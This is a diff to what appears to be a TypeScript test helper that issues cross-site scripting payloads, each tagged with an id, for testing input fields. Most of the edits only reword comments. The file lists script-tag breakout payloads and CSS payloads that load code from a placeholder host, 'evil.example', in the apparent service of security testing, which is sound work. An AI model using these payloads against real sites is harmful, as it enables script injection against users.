@@ -1,13 +1,10 @@
-/**
- * A hostile text, made for one place: its code identifies it by calling `ran(id)`, its styles by requesting `/css-id`
- * from `evil`.
- */
+/** A hostile text for one field. Its code calls `ran(id)`, and its styles request `/css-id` from `evil`. */
 export type Payload = (id: number) => string;
 
-/** A host that does not exist: tests block every request to other machines, and record it. */
+/** A host that does not exist. Tests block and record every request to other machines. */
 export const evil = "https://evil.example";
 
-/** Ways to make a browser run code from a text that is read as markup. */
+/** Texts that make a browser run code if they are parsed as markup. */
 export const markups: readonly Payload[] = [
   (id) => `<script>ran(${id})</script>`,
   (id) => `</script><script>ran(${id})</script>`,
@@ -86,7 +83,7 @@ export const styles: readonly Payload[] = [
   (id) => `attr(x);behavior:url(${evil}/css-${id});-moz-binding:url(${evil}/css-${id})`,
 ];
 
-/** Issues payloads, each with an id of its own, and records the place of each. */
+/** Issues payloads, each with a unique id, and records the field of each payload. */
 export function createPayloads() {
   const given: { readonly place: string; readonly text: string }[] = [];
   const give = (place: string, payload: Payload): string => {
@@ -95,11 +92,11 @@ export function createPayloads() {
     return text;
   };
   return {
-    /** Issues one payload for this place. */
+    /** Issues one payload for the field. */
     give,
-    /** Issues each of the payloads for this place. */
+    /** Issues each of the payloads for the field. */
     all: (place: string, payloads: readonly Payload[]) => payloads.map((payload) => give(place, payload)),
-    /** Issues the next payload of a list, so that many places share the list. */
+    /** Issues the next payload of a list, so that many fields share the list. */
     dealer(payloads: readonly Payload[]) {
       let next = 0;
       return (place: string) => {
@@ -109,7 +106,7 @@ export function createPayloads() {
     },
     count: () => given.length,
     places: () => new Set(given.map(({ place }) => place)).size,
-    /** The place of the payload with this id. */
+    /** Returns the field of the payload with the id. */
     whatRan: (id: unknown) => `${JSON.stringify(given[Number(id)])}`,
   };
 }
